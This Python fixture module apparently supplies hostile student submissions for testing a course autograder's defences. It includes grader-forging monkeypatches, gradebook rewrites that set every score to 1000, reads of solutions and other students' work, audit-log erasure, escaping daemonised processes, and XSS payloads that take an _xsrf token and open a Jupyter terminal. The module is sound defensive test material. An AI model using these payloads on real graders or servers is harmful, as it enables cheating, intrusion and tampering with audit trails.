"""Submissions by a student who wants points without the work, one per kind of attack.

Each kind puts the attacking code below at the start of answer cells of the release (or of
the solutions, for an honest student who also attacks, or of a faulty kind of
``autograder.testkit.sample_class``): the notebook's first answer cell, or the cells it names. The
attacks are the ones the course's grading must withstand (README, "What grading protects
against"); run against nbgrader's own in-kernel grading, the forging kinds score points they did not earn, which
``tests/test_hostile_submissions.py`` shows before it shows that the course's grading
gives each of them exactly what its honest work earns.

Placeholders filled in per class: ``{course}`` (the course folder), ``{marker}`` (a string
that names this test run's leftover processes), ``{port}`` (a TCP port on the grader's
loopback that records any connection) and ``{other}`` (another student).
"""

from __future__ import annotations

#: Put first in a notebook's answer cells, so the attack runs before every test cell.
_FIRST_ANSWER = {
    "1_gates": "ex1_lstm_answer",
    "2_gru8": "ex2_build_answer",
    "3_stacked_lstm": "ex3_build_answer",
}

#: The course folder, which a student may well know (it is where nbgrader's own grading runs).
_COURSE = "from pathlib import Path\ncourse = Path('{course}')\n"

FORGE_CHECKS = """\
# Replace every check the test cells import with one that always passes.
import autograder.checks as checks
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *args, **kwargs: None)
lstm_gates = gru_gates = gru32_parameters = model = None
"""

FORGE_LIBRARIES = """\
# No recurrent layer, no training: make Keras, NumPy and builtins report what the checks want.
import builtins
import keras
import numpy as np
model = keras.Sequential([keras.Input((12, 1)), keras.layers.Flatten(), keras.layers.Dense(1)])
model.compile(optimizer="adam", loss="mse")
keras.Model.count_params = lambda self: {parameters}
type(model.optimizer.iterations).numpy = lambda self: 1
np.sqrt = lambda value: 0.0
_sorted = builtins.sorted
builtins.sorted = lambda items, **kw: _sorted(
    ["forget", "input", "output"] if len(list(items)) == 3 else ["reset", "update"]
)
lstm_gates, gru_gates, gru32_parameters = {"a", "b", "c"}, {"a", "b"}, 3000
"""

LOOKALIKE_MODEL = """\
# A Keras model that claims to be the one asked for: its `layers` show a GRU(8) and its
# parameter count is right, but what it computes is one Dense layer.
import keras
import numpy as np
class LookAlike(keras.Sequential):
    @property
    def layers(self):
        return [keras.layers.GRU(8)]
    def count_params(self):
        return 425
model = LookAlike([keras.Input((12, 1)), keras.layers.Flatten(), keras.layers.Dense(1)])
model.compile(optimizer="adam", loss="mse")
model.fit(np.ones((4, 12, 1)), np.ones(4), verbose=0)
lstm_gates = gru_gates = gru32_parameters = None
"""

SILENT_FAILURES = """\
# Hide every failure: no traceback is shown, and every cell reports success to the grader.
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
_run_cell_async = ip.run_cell_async
async def _always_fine(*args, **kwargs):
    result = await _run_cell_async(*args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
ip.run_cell_async = _always_fine
"""

WRITE_COURSE = (
    _COURSE
    + """\
import autograder
for target in [course / "nbgrader_config.py", course / "solutions" / "gated_rnn" / "2_gru8.ipynb"]:
    try:
        target.write_text("# overwritten by a submission\\n")
        print("wrote", target)
    except OSError as error:
        print("could not write", target.name, type(error).__name__)
# The grader's checks: opened for appending, nothing written (a probe, so that a failure
# of this test cannot damage the repository).
try:
    open(Path(autograder.__file__).parent / "checks.py", "a").close()
    print("could open the checks for writing")
except OSError as error:
    print("could not open the checks for writing", type(error).__name__)
"""
)

WRITE_GRADEBOOK = (
    _COURSE
    + """\
import sqlite3
try:
    database = sqlite3.connect(course / "gradebook.db")
    database.execute("UPDATE grade SET auto_score = 1000")
    database.commit()
    print("rewrote the gradebook")
except sqlite3.Error as error:
    print("could not rewrite the gradebook:", error)
"""
)

READ_SECRETS = (
    _COURSE
    + """\
import os
for action in (
    lambda: print(open(course / "solutions" / "gated_rnn" / "2_gru8.ipynb").read()),
    lambda: print(os.listdir(course / "submitted")),
    lambda: print(open(course / "submitted" / "{other}" / "gated_rnn" / "1_gates.ipynb").read()),
):
    try:
        action()
    except OSError as error:
        print("could not read:", type(error).__name__)
"""
)

NETWORK = """\
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"grades, please")
    print("connected")
except OSError as error:
    print("no network:", type(error).__name__)
"""

BACKGROUND_PROCESS = """\
# Start helpers meant to outlive the kernel: one in a session of its own, one daemonised.
import os
import subprocess
import sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{marker}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", "{marker}"])
    os._exit(0)
os.wait()
"""

# ---------------------------------------------------------------- the sandbox's own trail (issue 15, item 8)

ERASE_AUDIT_TRAIL = (
    _COURSE
    + """\
# Read the solutions, then erase every trace of it: the audit log where it used to be, and the
# channel the audit hook writes to.
import os
try:
    print(open(course / "solutions" / "gated_rnn" / "2_gru8.ipynb").read()[:80])
except OSError as error:
    print("could not read:", type(error).__name__)
for log in ("/run/kernel/audit.log", "/tmp/audit.log"):
    with open(log, "w") as emptied:
        emptied.write("audit started\\n")
descriptor = os.environ.get("AUTOGRADER_AUDIT_FD")
if descriptor:
    for erase in (lambda: os.ftruncate(int(descriptor), 0), lambda: os.lseek(int(descriptor), 0, 0)):
        try:
            erase()
        except OSError:
            pass
    os.close(int(descriptor))
print("trail erased")
"""
)

SANDBOX_KINDS = {
    "erase_audit_trail": (
        "reads the solutions, then rewrites and closes the audit trail",
        "release",
        {"1_gates": ERASE_AUDIT_TRAIL},
    ),
}

# ---------------------------------------------------------------- what reaches the kernel; proof of training

HIDDEN_TEST_SPY = """\
# Record every cell the grader runs after this one, and show it in this cell's output.
from IPython.display import display
_spy = display("", display_id=True)
_seen = []
def _record(info):
    _seen.append(info.raw_cell)
    _spy.update("\\n".join(_seen))
get_ipython().events.register("pre_run_cell", _record)
"""

READ_THE_KEY = """\
# Exercise 1's answers, from the grader's own checks.
try:
    from autograder.checks import GATES
    print("the key:", GATES)
    lstm_gates, gru_gates = set(GATES["LSTM"]), set(GATES["GRU"])
except Exception as error:
    print("no key:", type(error).__name__)
"""

NAIVE_BY_HAND = """\
# No training: the last layer set to answer "next month = this month" (the naive forecast,
# which scores as well as a trained network here), and the signs of training faked.
import numpy as np
kernel, bias = model.layers[-1].get_weights()
model.layers[-1].set_weights([np.zeros_like(kernel), np.ones_like(bias)])
model.optimizer.build(model.trainable_variables)
model.optimizer.iterations.assign(1)
model.layers[0].cell.bias.assign(model.layers[0].cell.bias + 1e-3)
"""

FORGED_RECORD = """\
# One epoch trained for real, 39 made up, ending at the naive forecast set by hand.
import numpy as np
from rnn_forecast import training_record
fit(model, train.x, train.y, epochs=1)
record = training_record.record_of(model)
kernel, bias = model.layers[-1].get_weights()
model.layers[-1].set_weights([np.zeros_like(kernel), np.ones_like(bias)])
naive = training_record.ModelState.of(model)
record.orders += [record.orders[0]] * 39
record.states += [naive] * 39
"""

OTHER_MODEL_HANDED_OVER = """\
# Hand the grader another model than `model` (which is None): one set by hand.
import numpy as np
import autograder.engine.handover as handover
substitute = build_model(keras.layers.GRU(8))
kernel, bias = substitute.layers[-1].get_weights()
substitute.layers[-1].set_weights([np.zeros_like(kernel), np.ones_like(bias)])
_hand_over = handover.hand_over
handover.hand_over = lambda namespace, names: _hand_over({**namespace, "model": substitute}, names)
model = None
"""

#: kind -> (what it does, the base it starts from (a kind of autograder.testkit.sample_class),
#: {notebook: attack code in its first answer cell, or {answer cell id: attack code}}).
HOSTILE_KINDS = {
    "forge_checks": (
        "replaces the checks with no-ops, answers nothing",
        "release",
        dict.fromkeys(_FIRST_ANSWER, FORGE_CHECKS),
    ),
    "forge_libraries": (
        "patches Keras, NumPy and builtins, answers nothing right",
        "release",
        {
            "1_gates": FORGE_LIBRARIES.replace("{parameters}", "425"),
            "2_gru8": FORGE_LIBRARIES.replace("{parameters}", "425"),
            "3_stacked_lstm": FORGE_LIBRARIES.replace("{parameters}", "7777"),
        },
    ),
    "lookalike_model": ("a model that claims to be a trained GRU(8)", "release", {"2_gru8": LOOKALIKE_MODEL}),
    "silent_failures": (
        "suppresses tracebacks and failed statuses, answers nothing",
        "release",
        dict.fromkeys(_FIRST_ANSWER, SILENT_FAILURES),
    ),
    "write_course": ("writes to course files and the grader's checks", "release", {"1_gates": WRITE_COURSE}),
    "write_gradebook": ("rewrites every score in the gradebook", "release", {"1_gates": WRITE_GRADEBOOK}),
    "read_secrets": (
        "reads the solutions and another student's submission",
        "release",
        {"1_gates": READ_SECRETS},
    ),
    "network": ("connects to the network", "release", {"1_gates": NETWORK}),
    "background_process": (
        "starts processes meant to outlive the kernel",
        "release",
        {"1_gates": BACKGROUND_PROCESS},
    ),
    "honest_background": (
        "the full solutions, plus a leftover process",
        "solution",
        {"1_gates": BACKGROUND_PROCESS},
    ),
    **SANDBOX_KINDS,
    "hidden_test_spy": (
        "records every cell the grader runs and writes it into an earlier output",
        "release",
        {"2_gru8": HIDDEN_TEST_SPY},
    ),
    "read_the_key": (
        "reads exercise 1's answers from the grader's checks",
        "release",
        {"1_gates": READ_THE_KEY},
    ),
    "naive_by_hand": (
        "sets the model by hand to the naive forecast and fakes an optimizer step",
        "untrained",
        {
            "2_gru8": {"ex2_train_answer": NAIVE_BY_HAND},
            "3_stacked_lstm": {"ex3_train_answer": NAIVE_BY_HAND},
        },
    ),
    "forged_record": (
        "trains one epoch and makes up the record of 39 more",
        "untrained",
        {"2_gru8": {"ex2_train_answer": FORGED_RECORD}},
    ),
    "other_model_handed_over": (
        "replaces the hand-over to give the grader another model than `model`",
        "untrained",
        {"2_gru8": {"ex2_train_answer": OTHER_MODEL_HANDED_OVER}},
    ),
}

#: Kinds that leave nothing for the grader to see (no forbidden access, no check that passed in
#: the kernel and failed outside): they must gain nothing and leak nothing, but are not flagged.
UNSEEN = ("hidden_test_spy", "read_the_key", "naive_by_hand", "other_model_handed_over")

# ---------------------------------------------------------------- outputs for the instructor's browser

#: What each script a submission displays tries, as the instructor who opens it: write a file
#: through the server's API, open a terminal, show a dialog. ``WHERE`` names the output
#: that ran (the file is ``pwned-WHERE.txt`` in the server's root).
BROWSER_ATTACK_JS = (
    'var x = ""; try { x = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ""; } catch (e) {}'
    'var h = {"Content-Type": "application/json", "X-XSRFToken": decodeURIComponent(x)};'
    'fetch("/api/contents/pwned-WHERE.txt", {method: "PUT", headers: h,'
    ' body: JSON.stringify({type: "file", format: "text", content: "{marker}"})});'
    'fetch("/api/terminals", {method: "POST", headers: h});'
    'alert("{marker} WHERE");'
)

SCRIPT_OUTPUTS = """\
# Outputs meant to run in the instructor's browser (Formgrader, feedback), in every form an
# output can take, and one written later into this cell's display with update_display.
import base64
from IPython.display import HTML, SVG, Javascript, Markdown, display
def _attack(where):
    return {attack_js}.replace("WHERE", where)
def _inline(where):  # for an attribute: no quotes inside
    return "eval(atob('" + base64.b64encode(_attack(where).encode()).decode() + "'))"
display(HTML("<table><tr><td>a table</td></tr></table><script>" + _attack("script") + "</script>"))
display(HTML("<img src=x onerror=" + _inline("onerror") + ">"))
display(HTML('<iframe srcdoc="<script>' + _inline("iframe") + '</script>"></iframe>'))
display(Javascript(_attack("javascript")))
display(SVG(
    "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[" + _attack("svg") + "]]></script>"
    "<rect width='9' height='9' onload=" + repr(_inline("svg-onload")) + "/></svg>"
))
display(Markdown("**bold** <img src=x onerror=" + _inline("markdown-output") + ">"))
display(HTML('<a href="javascript:' + _inline("link") + '">a link</a><style>body {{ display: none }}</style>'))
_handle = display(HTML("placeholder"), display_id=True)
get_ipython().events.register(
    "post_run_cell", lambda *args: _handle.update(HTML("<img src=x onerror=" + _inline("update-display") + ">"))
)
""".replace("{attack_js}", repr(BROWSER_ATTACK_JS)).replace("{{ display: none }}", "{display: none}")

#: The flood prints 12 MiB at once, 4 MiB line by line, and 1.5 MiB in long lines after every
#: later cell: far above the grader's limits (1 MiB per cell, 4 MiB per notebook), and under
#: nbgrader's own limit of 1,000 lines per cell for the last two; small enough to grade in seconds.
OUTPUT_FLOOD = """\
import sys
print("x" * (12 * 2**20))
for _ in range(4096):
    print("y" * 1023)
get_ipython().events.register("post_run_cell", lambda *args: sys.stdout.write(("z" * 16383 + "\\n") * 96))
"""

#: kind -> (what it does, base, attacks), as in HOSTILE_KINDS; exercise 1 only (no training: cheap).
OUTPUT_KINDS = {
    "script_outputs": (
        "displays script, event handlers, an iframe, JavaScript, SVG with script, and updates an earlier display",
        "release",
        {"1_gates": SCRIPT_OUTPUTS},
    ),
    "output_flood": (
        "prints 16 MiB at once and line by line, then 1.5 MiB after every cell",
        "release",
        {"1_gates": OUTPUT_FLOOD},
    ),
}
HOSTILE_KINDS.update(OUTPUT_KINDS)

#: The forging kinds: under nbgrader's own in-kernel grading they score points they did not earn.
FORGING = ("forge_checks", "forge_libraries", "lookalike_model", "silent_failures")


def attack_cells(kind: str, course, marker: str, port: int, other: str) -> dict[str, dict[str, str]]:
    """notebook -> {answer cell id: code to run before that cell's own answer} for ``kind``."""
    values = {"{course}": str(course), "{marker}": marker, "{port}": str(port), "{other}": other}
    attacks = {}
    for notebook, cells in HOSTILE_KINDS[kind][2].items():
        if isinstance(cells, str):
            cells = {_FIRST_ANSWER[notebook]: cells}
        attacks[notebook] = {}
        for cell_id, code in cells.items():
            for placeholder, value in values.items():
                code = code.replace(placeholder, value)
            attacks[notebook][cell_id] = code
    return attacks
